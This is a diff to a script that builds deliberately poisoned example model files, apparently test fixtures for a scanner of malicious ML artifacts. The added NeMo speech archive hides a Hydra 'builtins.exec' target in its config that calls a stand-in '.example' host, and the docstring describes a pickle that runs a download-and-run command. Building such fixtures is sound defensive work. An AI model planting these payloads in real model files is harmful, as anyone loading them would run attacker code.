@@ -1,6 +1,6 @@
 """Write the model files of the example estate, byte for byte reproducibly.
 
-The estate ships three model directories under ``examples/estate/ml/models/``; their binary files
+The estate ships four model directories under ``examples/estate/ml/models/``; their binary files
 are written by this script, so that nothing in the repository is a blob of unknown origin
 (``tests/test_estate.py`` regenerates them and compares the bytes):
 
@@ -10,7 +10,10 @@ are written by this script, so that nothing in the repository is a blob of unkno
   writes it, whose ``data.pkl`` rebuilds a state dict and, on the way, calls ``os.system`` with a
   download-and-run command (aimed at a reserved ``.example`` domain, so it could do nothing);
 * ``summarizer/``: a model whose config maps its classes to custom code (``auto_map``), so that
-  loading it needs ``trust_remote_code``; its modeling file posts inputs to a third-party host.
+  loading it needs ``trust_remote_code``; its modeling file posts inputs to a third-party host;
+* ``speech/call-asr.nemo``: a NeMo speech model (a tar of ``model_config.yaml`` and a clean
+  ``model_weights.ckpt``) whose configuration hides a Hydra ``_target_: builtins.exec``, which
+  ``restore_from`` would call (CVE-2025-23304).
 
 Run: ``python examples/make_estate_models.py`` (needs numpy and safetensors).
 """
@@ -20,6 +23,7 @@ from __future__ import annotations
 import io
 import struct
 import sys
+import tarfile
 import zipfile
 from pathlib import Path
 
@@ -81,6 +85,67 @@ def poisoned_pickle() -> bytes:
     return out.getvalue()
 
 
+def clean_state_dict_pickle() -> bytes:
+    """``data.pkl`` of a clean ``torch.save`` state dict: ``{"linear.weight": <2x4 float tensor>}``."""
+    out = io.BytesIO()
+    w = out.write
+    w(b"\x80\x02ccollections\nOrderedDict\n)R")
+    w(_binunicode("linear.weight"))
+    w(b"ctorch._utils\n_rebuild_tensor_v2\n(")
+    w(b"(" + _binunicode("storage") + b"ctorch\nFloatStorage\n" + _binunicode("0") + _binunicode("cpu"))
+    w(b"K\x08tQK\x00K\x02K\x04\x86K\x04K\x01\x86\x89ccollections\nOrderedDict\n)RtRs.")
+    return out.getvalue()
+
+
+#: The speech model's NeMo configuration: a Conformer CTC model whose "telemetry" callback is code.
+SPEECH_CONFIG = """\
+sample_rate: 16000
+target: nemo.collections.asr.models.ctc_bpe_models.EncDecCTCModelBPE
+nemo_version: 2.1.0
+tokenizer: {dir: tokenizer, type: bpe}
+preprocessor:
+  _target_: nemo.collections.asr.modules.AudioToMelSpectrogramPreprocessor
+  sample_rate: ${sample_rate}
+  features: 80
+encoder:
+  _target_: nemo.collections.asr.modules.ConformerEncoder
+  feat_in: 80
+  n_layers: 16
+decoder:
+  _target_: nemo.collections.asr.modules.ConvASRDecoder
+  num_classes: 256
+telemetry:
+  _target_: builtins.exec
+  _args_:
+    - "import urllib.request as u; u.urlopen('https://telemetry.northwind-ml.example/c')"
+optim: {name: adamw, lr: 0.001}
+"""
+
+
+def speech_archive() -> bytes:
+    """The ``.nemo`` archive: a plain tar as NeMo writes one (fixed owner and times)."""
+    out = io.BytesIO()
+    weights = io.BytesIO()
+    with zipfile.ZipFile(weights, "w", compression=zipfile.ZIP_STORED) as zf:
+        for name, data in (
+            ("model_weights/data.pkl", clean_state_dict_pickle()),
+            ("model_weights/byteorder", b"little"),
+            ("model_weights/data/0", struct.pack("<8f", 0.3, -0.1, 0.2, 0.0, 0.5, -0.3, 0.1, 0.4)),
+            ("model_weights/version", b"3\n"),
+        ):
+            zf.writestr(zipfile.ZipInfo(name, date_time=_ZIP_TIME), data)
+    with tarfile.open(fileobj=out, mode="w", format=tarfile.USTAR_FORMAT) as tar:
+        for name, data in (
+            ("./model_config.yaml", SPEECH_CONFIG.encode()),
+            ("./model_weights.ckpt", weights.getvalue()),
+        ):
+            info = tarfile.TarInfo(name)
+            info.size, info.mtime, info.mode = len(data), 1_767_225_600, 0o644
+            info.uname = info.gname = "nemo"
+            tar.addfile(info, io.BytesIO(data))
+    return out.getvalue()
+
+
 def poisoned_checkpoint() -> bytes:
     """The poisoned ``churn_model.pt``: a torch-style zip (stored members, fixed times)."""
     out = io.BytesIO()
@@ -101,6 +166,7 @@ def files() -> dict[str, bytes]:
         "ml/models/ticket-classifier/model.safetensors": clean_safetensors(),
         "ml/models/summarizer/model.safetensors": clean_safetensors(),
         "ml/models/churn/churn_model.pt": poisoned_checkpoint(),
+        "ml/models/speech/call-asr.nemo": speech_archive(),
     }
 
 
@@ -115,4 +181,3 @@ def main() -> int:
 
 if __name__ == "__main__":
     sys.exit(main())
-
